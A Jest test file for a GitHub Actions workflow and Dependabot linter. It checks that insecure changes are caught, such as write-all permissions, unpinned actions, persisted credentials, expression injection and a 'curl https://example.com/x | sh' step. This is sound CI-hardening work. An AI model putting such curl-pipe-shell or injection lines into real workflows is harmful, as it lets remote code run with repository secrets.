import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { lintDependabot, lintWorkflow } from '../../scripts/deploy/workflows.js';

const FOLDER = '.github/workflows';
const read = (name: string) => readFileSync(join(FOLDER, name), 'utf8');
const DEPENDABOT = readFileSync('.github/dependabot.yml', 'utf8');

test.each(readdirSync(FOLDER))('%s is as it should be', (name) => {
  expect(lintWorkflow(name, read(name))).toEqual([]);
});

const CHECKOUT = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1';
const BROKEN: readonly (readonly [rule: string, was: string, is: string, file?: string])[] = [
  ['trigger', '  pull_request:', '  pull_request_target:'],
  ['trigger', '  workflow_call:', '  workflow_run: { workflows: [x] }'],
  ['permissions', 'permissions: {}\n', ''],
  ['permissions', 'permissions: {}\n', 'permissions: write-all\n'],
  ['permissions', '    permissions:\n      contents: read\n', ''],
  ['permissions', 'contents: read', 'contents: write'],
  ['permissions', '      contents: read\n', '      contents: read\n      id-token: write\n'],
  ['permissions', '    permissions:\n      contents: read\n', '    permissions: write-all\n', 'image.yaml'],
  ['pinned', CHECKOUT, 'actions/checkout@v7'],
  ['pinned', CHECKOUT, 'actions/checkout@v7.0.1'],
  ['pinned', CHECKOUT, 'actions/checkout@main'],
  [
    'pinned',
    './.github/workflows/checks.yaml',
    'other/repository/.github/workflows/checks.yaml@v1',
    'image.yaml',
  ],
  ['credentials', 'persist-credentials: false', 'persist-credentials: true'],
  ['credentials', '        with:\n          persist-credentials: false\n', ''],
  ['injection', 'npm run "$CHECK"', 'npm run ${{ matrix.check }}'],
  ['install', 'npm ci', 'npm install'],
  ['install', 'npm test', 'curl https://example.com/x | sh'],
  ['timeout', '    timeout-minutes: 15\n', ''],
  ['image', 'node:24.21.0-trixie', 'node:24'],
  ['secrets', 'uses: ./', 'secrets: inherit\n    uses: ./', 'image.yaml'],
];

test.each(BROKEN)('a mistake is seen: %s, %j → %j', (rule, was, is, name = 'checks.yaml') => {
  const file = read(name);

  expect(file).toContain(was);
  expect(lintWorkflow(name, file.replace(was, is)).map((problem) => problem.rule)).toContain(rule);
});

test('what is locked or pinned is kept up to date, not in its first hours', () => {
  expect(lintDependabot(DEPENDABOT)).toEqual([]);
});

test.each([
  ['updates', '"/deploy/checks", ', ''],
  ['updates', 'package-ecosystem: docker\n', 'package-ecosystem: helm\n'],
  ['updates', 'package-ecosystem: github-actions', 'package-ecosystem: gomod'],
  ['cooldown', '    cooldown: { default-days: 7 }\n', ''],
])('a mistake is seen: %s, %j → %j', (rule, was, is) => {
  expect(DEPENDABOT).toContain(was);
  expect(lintDependabot(DEPENDABOT.replace(was, is)).map((problem) => problem.rule)).toContain(rule);
});
